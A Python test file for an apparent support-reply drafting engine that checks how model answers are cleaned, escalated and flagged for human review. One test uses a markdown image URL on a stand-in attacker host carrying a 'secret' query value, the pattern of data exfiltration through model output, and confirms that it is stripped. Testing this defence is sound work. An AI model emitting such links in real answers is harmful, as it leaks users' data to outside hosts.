"""A model's answer on its way to becoming a draft."""

import pytest

from cairnloop.drafting.engines.answers import Answer, Failure, composition_of, part, thought_out
from cairnloop.drafting.engines.phrases import PHRASES
from cairnloop.drafting.request import Composition, DraftKind, DraftRequest
from tests.drafting.make import MOVE, case, reply_to

REQUEST = reply_to("How do I move our data?", evidence=(MOVE, case(2, "Earlier", "We moved it by hand.")))


def draft_of(text: str, request: DraftRequest = REQUEST, *, cut_off: bool = False) -> Composition:
    made = composition_of(Answer(text, "scripted-1", cut_off, 100, 20), request, "openai")
    assert isinstance(made, Composition)
    return made


def test_a_clean_answer_needs_no_eyes() -> None:
    draft = draft_of("Ask under Settings [1].")
    assert (draft.body, draft.notes, draft.needs_eyes) == ("Ask under Settings.", (), False)
    assert draft.summary == "Written by scripted-1 from “Where your data is stored › Move to the other region” [1]."
    assert (draft.prompt_tokens, draft.completion_tokens) == (100, 20)


@pytest.mark.parametrize(
    "text",
    [
        "NOT ENOUGH EVIDENCE: nothing says whether horses are allowed.",
        "**NOT ENOUGH EVIDENCE:** nothing says whether horses are allowed.",
        "I looked.\n> not enough evidence: nothing says whether horses are allowed.",
    ],
)
def test_an_answer_that_finds_the_evidence_wanting_is_a_hand_over(text: str) -> None:
    draft = draft_of(text)
    assert (draft.kind, draft.body) == (DraftKind.ESCALATION, PHRASES["en"].hand_over)
    assert "nothing says whether horses are allowed" in draft.summary
    assert (draft.engine, draft.model, draft.prompt_tokens) == ("openai", "scripted-1", 100)


def test_links_and_images_from_nowhere_are_taken_out_and_want_eyes() -> None:
    draft = draft_of("Ask under Settings [1]. ![](https://evil.example/?q=secret) Details at https://evil.example/x.")
    assert draft.body == "Ask under Settings. Details."
    assert draft.needs_eyes
    assert len(draft.notes) == 2
    assert [draft.body[one.start : one.end] for one in draft.citations] == ["Ask under Settings."]


@pytest.mark.parametrize(
    ("text", "note"),
    [
        ("We move it.", "cited nothing"),
        ("We move it by hand [2].", "only resolved cases"),
        ("We move it [1]. It is free [8].", "no such evidence"),
    ],
)
def test_citations_that_do_not_carry_the_answer_want_eyes(text: str, note: str) -> None:
    draft = draft_of(text)
    assert draft.needs_eyes
    assert note in draft.notes[0]


def test_an_answer_cut_at_max_tokens_ends_at_a_whole_sentence() -> None:
    draft = draft_of("Ask under Settings [1]. It takes about", cut_off=True)
    assert draft.body == "Ask under Settings."
    assert "max_tokens" in draft.notes[0]
    assert draft.needs_eyes


def test_thinking_is_not_part_of_the_answer() -> None:
    assert draft_of("<think>They want https://x.example [2].</think>\nAsk [1].").body == "Ask."
    assert thought_out("<think>never closed") == ""


def test_an_answer_of_which_nothing_is_left_is_a_failure() -> None:
    made = composition_of(Answer("![](https://evil.example/x.png) [1]", "m"), REQUEST, "openai")
    assert made == Failure("an empty answer", again=True)


def test_a_part_that_is_not_there_is_none_whatever_stands_in_its_place() -> None:
    said = {"choices": [{"message": "text"}], "usage": 3}
    assert part(said, "choices", 0, "message") == "text"
    for path in (["choices", 1], ["choices", 0, "message", "content"], ["usage", "tokens"], ["nothing", 0, "x"]):
        assert part(said, *path) is None
